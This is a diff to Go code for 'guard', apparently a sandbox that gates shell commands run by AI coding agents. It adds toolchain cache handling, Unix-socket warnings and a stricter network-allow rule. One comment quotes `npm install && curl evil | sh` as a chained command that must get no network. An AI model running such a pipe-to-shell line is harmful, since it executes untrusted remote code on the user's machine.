@@ -16,12 +16,14 @@ import (
 	"github.com/guard-sh/guard/rule"
 	"github.com/guard-sh/guard/sandbox"
 	"github.com/guard-sh/guard/shellpolicy"
+	"github.com/guard-sh/guard/toolchain"
 	"github.com/spf13/pflag"
 )
 
 func execCommands() []command {
 	return []command{
 		{name: "exec", summary: "gate a command, then run it inside the sandbox", run: runExec},
+		{name: "go-cache", summary: "Go's build cache inside the sandbox (go runs it, as GOCACHEPROG)", run: runGoCache},
 	}
 }
 
@@ -97,7 +99,7 @@ func runExec(a *app, args []string) int {
 	// command is judged.
 	var launcher *sandbox.Launcher
 	if !f.noSandbox {
-		launcher = sandbox.Prepare()
+		launcher = sandbox.Prepare(sandbox.ExpectNetwork(f.network == "on"))
 		defer launcher.Close()
 	}
 	unattended := f.unattended || len(f.permits) > 0
@@ -124,10 +126,11 @@ func runExec(a *app, args []string) int {
 	// where it is enforced in full.
 	var policy sandbox.Policy
 	var explained sandbox.Explanation
+	var caches *toolchain.Plan
 	enforced, missing := false, "--no-sandbox"
 	if !f.noSandbox {
 		var plan pathpolicy.Plan
-		policy, plan, code = a.sandboxPolicy(s, j, verdict, f)
+		policy, plan, caches, code = a.sandboxPolicy(s, j, verdict, f)
 		if code != exitOK {
 			return code
 		}
@@ -137,6 +140,11 @@ func runExec(a *app, args []string) int {
 			return exitSandbox
 		}
 		explained = ex
+		for _, u := range policy.UnixSockets {
+			if why := sandbox.SocketDanger(u.Path); why != "" && !u.Dangerous {
+				a.warnf("allow_unix_sockets %s is refused: %s; if you mean it, write {path = %q, dangerous = true}", safeText(u.Path), why, u.Path)
+			}
+		}
 		if m := bypassMissing(plan, ex); len(m) > 0 {
 			missing = strings.Join(m, "; ")
 		} else {
@@ -151,6 +159,11 @@ func runExec(a *app, args []string) int {
 	if err != nil {
 		return a.usageError("exec", "%v", err)
 	}
+	if req.Session != "" && !unattended {
+		// An approval the user gave at the agent's own prompt (guard hook
+		// claude-code --sandbox) answers this command's prompt, once.
+		e.Approver = &handoffApprover{inner: e.Approver, h: newHandoff(s.Paths.StateDir), session: req.Session, workspace: s.Paths.Workspace}
+	}
 	d, err := e.Decide(context.Background(), req)
 	if err != nil || !d.Allowed() {
 		if f.json {
@@ -163,6 +176,14 @@ func runExec(a *app, args []string) int {
 	}
 
 	env := a.commandEnv(s, f, unattended, req.Session)
+	if caches != nil {
+		// The toolchains' caches are the workspace's own (or, with
+		// share_caches, the user's), made before the sandbox looks.
+		if err := caches.Make(); err != nil {
+			a.warnf("%v: the command's toolchains cannot keep caches", err)
+		}
+		env = caches.Apply(env)
+	}
 	c := sandbox.Command{Env: env, Dir: j.cwd}
 	if cmdSet {
 		c.Path, c.Args = shell, []string{shell, "-c", f.command}
@@ -199,13 +220,56 @@ func runExec(a *app, args []string) int {
 		a.warnf("%v", err)
 	}
 	watch.report(a)
+	if refused := proc.RefusedSockets(); len(refused) > 0 && status != 0 {
+		// Only when the command failed: programs probe sockets they can do
+		// without (the session bus, systemd's user database) all the time.
+		a.errorf("note: the sandbox refused connections to the Unix sockets %s; if the command needs one, add it to [sandbox] allow_unix_sockets (guard sandbox explain shows the sockets allowed)", strings.Join(quoteAll(refused), ", "))
+	}
 	return status
+}
+
+func quoteAll(ss []string) []string {
+	out := make([]string, len(ss))
+	for i, s := range ss {
+		out[i] = safeText(s)
+	}
+	return out
+}
+
+// runGoCache is guard go-cache: Go's build cache inside the sandbox. The
+// go command starts it (GOCACHEPROG, which guard exec sets) and talks to it
+// on stdin and stdout; it writes the workspace's cache (GOCACHE) and reads
+// the user's own too, without writing it.
+func runGoCache(a *app, args []string) int {
+	fs := a.flagSet("go-cache", "go-cache", `
+Run by the go command inside guard's sandbox, as GOCACHEPROG: serves Go's
+build cache from the workspace's own cache ($GOCACHE), which it writes, and
+from the user's own ($`+toolchain.EnvGoCacheReadOnly+`), which it only reads,
+copying what it finds there into the workspace's. There is no need to run it
+by hand.`)
+	if done, code := a.parse(fs, args); done {
+		return code
+	}
+	if fs.NArg() > 0 {
+		return a.usageError("go-cache", "unexpected argument %q", fs.Arg(0))
+	}
+	err := toolchain.ServeGoCache(a.stdin, a.stdout, toolchain.GoCache{
+		Write:     os.Getenv("GOCACHE"),
+		Read:      filepath.SplitList(os.Getenv(toolchain.EnvGoCacheReadOnly)),
+		Toolchain: os.Getenv(toolchain.EnvGoToolchain),
+	})
+	if err != nil {
+		a.errorf("%v", err)
+		return 1
+	}
+	return exitOK
 }
 
 // sandboxPolicy is the sandbox of this run: the blocked paths of the read
 // rules, the writable roots, the paths kept read-only inside them, the
-// network.
-func (a *app) sandboxPolicy(s *config.Settings, j *judge, v *shellpolicy.Verdict, f execFlags) (sandbox.Policy, pathpolicy.Plan, int) {
+// network, the Unix sockets, and the toolchains' caches (nil when a read
+// rule blocks them).
+func (a *app) sandboxPolicy(s *config.Settings, j *judge, v *shellpolicy.Verdict, f execFlags) (sandbox.Policy, pathpolicy.Plan, *toolchain.Plan, int) {
 	p := sandbox.Policy{
 		Writable:        append([]string{s.Paths.Workspace}, s.Sandbox.AllowWrite...),
 		TempDir:         true,
@@ -213,7 +277,7 @@ func (a *app) sandboxPolicy(s *config.Settings, j *judge, v *shellpolicy.Verdict
 		TCPConnect:      s.Sandbox.TCPConnect,
 	}
 	for _, u := range s.Sandbox.UnixSockets {
-		p.UnixSockets = append(p.UnixSockets, u.Path)
+		p.UnixSockets = append(p.UnixSockets, sandbox.UnixSocket{Path: u.Path, Dangerous: u.Dangerous})
 	}
 	p.Network = s.Sandbox.Network || (f.network != "off" && a.networkFor(s, j, v))
 	plan := j.plan()
@@ -240,7 +304,43 @@ func (a *app) sandboxPolicy(s *config.Settings, j *judge, v *shellpolicy.Verdict
 		}
 		p.ReadOnly = append(p.ReadOnly, sandbox.ReadOnlyPath{Path: l.Path, Kind: kind, Why: l.Why})
 	}
-	return p, plan, exitOK
+	caches := toolchainPlan(s)
+	for _, b := range p.Blocked {
+		if insideAny(caches.Root, []string{b.Path}) || insideAny(b.Path, []string{caches.Root}) {
+			// A read rule blocks guard's caches: the command's toolchains
+			// keep none (and find the user's read-only, where not blocked).
+			a.warnf("toolchain caches off: %s blocks %s", b.Rule, caches.Root)
+			return p, plan, nil, exitOK
+		}
+	}
+	p.Writable = append(p.Writable, caches.Writable...)
+	p.Private = append(p.Private, caches.Root)
+	return p, plan, &caches, exitOK
+}
+
+// toolchainPlan is where the command's toolchains keep their caches.
+func toolchainPlan(s *config.Settings) toolchain.Plan {
+	exe, err := os.Executable()
+	if err != nil {
+		exe = ""
+	} else if _, err := os.Stat(exe); err != nil {
+		exe = "" // replaced or removed since it started
+	}
+	xdgDir := func(name string) string {
+		if v := os.Getenv(name); filepath.IsAbs(v) {
+			return filepath.Clean(v)
+		}
+		return ""
+	}
+	return toolchain.New(toolchain.Options{
+		Home:       s.Paths.Home,
+		CacheHome:  xdgDir("XDG_CACHE_HOME"),
+		ConfigHome: xdgDir("XDG_CONFIG_HOME"),
+		Workspace:  s.Paths.Workspace,
+		Getenv:     os.LookupEnv,
+		Share:      s.Sandbox.ShareCaches,
+		GuardExe:   exe,
+	})
 }
 
 // bypassMissing is what keeps bypass mode from running with this sandbox:
@@ -265,28 +365,30 @@ func (j *judge) plan() pathpolicy.Plan {
 }
 
 // networkFor reports whether [sandbox] allow_network_for turns the network
-// on for this command: every segment must be read-only or match one of its
-// rules, so that `npm install && curl evil | sh` gets no network from
-// allow_network_for = ["shell(npm install *)"].
+// on for this command: some segment must match one of its rules, and every
+// other be read-only, so that `npm install && curl evil | sh` gets no
+// network from allow_network_for = ["shell(npm install *)"], and `git log`
+// none either. A rule matches as an allow rule does: for every value of
+// what is unknown before the command runs ($X, globs).
 func (a *app) networkFor(s *config.Settings, j *judge, v *shellpolicy.Verdict) bool {
 	if len(s.Sandbox.NetworkFor) == 0 || v == nil || len(v.Segments) == 0 {
 		return false
 	}
 	set := rule.NewSet(s.Sandbox.NetworkFor, s.RuleEnv())
+	matched := false
 	for _, sv := range v.Segments {
-		if sv.ReadOnly {
-			continue
-		}
 		text := rule.Known(sv.Command)
 		if sv.Segment != nil {
 			text = sv.Segment.Text
 		}
-		m := set.Match(rule.Shell, text)
-		if m.Allow == nil {
+		switch {
+		case set.Match(rule.Shell, text).Allow != nil:
+			matched = true
+		case !sv.ReadOnly:
 			return false
 		}
 	}
-	return true
+	return matched
 }
 
 // commandEnv is the command's environment: guard's own, less what env_deny
